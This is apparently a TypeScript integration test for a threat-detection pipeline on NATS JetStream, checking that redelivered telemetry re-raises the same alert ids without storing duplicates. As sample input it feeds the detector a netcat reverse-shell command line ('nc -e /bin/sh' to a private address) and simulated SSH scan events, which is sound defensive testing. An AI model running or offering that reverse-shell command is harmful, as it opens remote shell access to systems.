// Redelivery on a real nats-server: a pipeline that starts over (fresh detector and suppression
// state, as after a crash before its acks) re-raises the same alerts with the same ids, and
// JetStream stores none of them twice.
import { join } from 'node:path';
import { connectBus, provision, type Bus } from '@omega/bus';
import { HybridVerifier, loadMlDsaBackend } from '@omega/crypto';
import { flowEvent } from '@omega/detect';
import { NetworkActivityId } from '@omega/proto';
import { createLogger } from '@omega/runtime';
import { withNats } from '@omega/testkit';
import { Registry } from 'prom-client';
import { AlertStore } from './alert-store';
import { RuleCatalog } from './rule-catalog';
import { processLaunch } from './testing/spec-events';
import { SpecSentinel } from './testing/spec-sentinel';
import { TELEMETRY_DURABLE, type TelemetryPipeline } from './telemetry-pipeline';
import { specPipeline } from './testing/spec-pipeline';

const nats = withNats({ jetstream: true });
const logger = createLogger({ service: 'intelligence', level: 'silent' });
let bus: Bus;
let catalog: RuleCatalog;
let sentinel: SpecSentinel;
let verifier: HybridVerifier;

beforeAll(async () => {
  bus = await connectBus({ servers: nats.url, name: 'pipeline-spec', logger });
  await provision(bus, {
    streams: ['TELEMETRY', 'ALERTS', 'DECEPTION', 'DLQ'],
    kv: ['omega_identities'],
  });
  sentinel = await SpecSentinel.enroll(bus, 'node-1');
  verifier = new HybridVerifier(await loadMlDsaBackend('liboqs'));
  catalog = await RuleCatalog.fromDirectory(join(__dirname, '..', 'rules'), 0n);
  nats.beforeStop(() => bus.drain());
});

function newPipeline(registry: Registry): Promise<TelemetryPipeline> {
  return specPipeline(bus, catalog, verifier, registry);
}

async function caughtUp(): Promise<void> {
  for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
    const info = await bus.jsm.consumers.info('TELEMETRY', TELEMETRY_DURABLE);
    if (info.num_pending === 0 && info.num_ack_pending === 0) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('the pipeline did not ack every batch');
}

async function counter(registry: Registry, name: string): Promise<number> {
  const metric = await registry.getSingleMetric(name)!.get();
  return metric.values.reduce((sum, v) => sum + v.value, 0);
}

it('a redelivered batch raises the same alert ids and JetStream stores no duplicate', async () => {
  const t0 = 1_700_000_000_000_000_000n;
  await sentinel.publish('process', [
    processLaunch(
      { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
      { id: 'nc', timeNs: t0 },
    ),
  ]);
  await sentinel.publish(
    'network',
    ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
      flowEvent({
        id: `scan-${i}`,
        timeNs: t0 + BigInt(i) * 1_000_000_000n,
        src: { ip: '10.0.0.5' },
        dst: { ip: host, port: 22 },
        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
      }),
    ),
  );

  const firstMetrics = new Registry();
  const first = await newPipeline(firstMetrics);
  await first.start();
  await caughtUp();
  await first.stop();
  const store = new AlertStore(bus);
  const before = (await store.list(undefined, 1000)).alerts.map((s) => s.alert.id).sort();
  expect(before.length).toBeGreaterThanOrEqual(2);
  expect(await counter(firstMetrics, 'omega_intelligence_alerts_total')).toBe(before.length);

  // Start over from the first batch, as a replica does whose acks never reached the server.
  await bus.jsm.consumers.delete('TELEMETRY', TELEMETRY_DURABLE);
  const secondMetrics = new Registry();
  const second = await newPipeline(secondMetrics);
  await second.start();
  await caughtUp();
  await second.stop();

  expect(await counter(secondMetrics, 'omega_intelligence_events_total')).toBe(5);
  expect(await counter(secondMetrics, 'omega_intelligence_alerts_total')).toBe(0);
  const after = (await store.list(undefined, 1000)).alerts.map((s) => s.alert.id).sort();
  expect(after).toEqual(before);
  expect((await bus.jsm.streams.info('ALERTS')).state.messages).toBe(before.length);
});
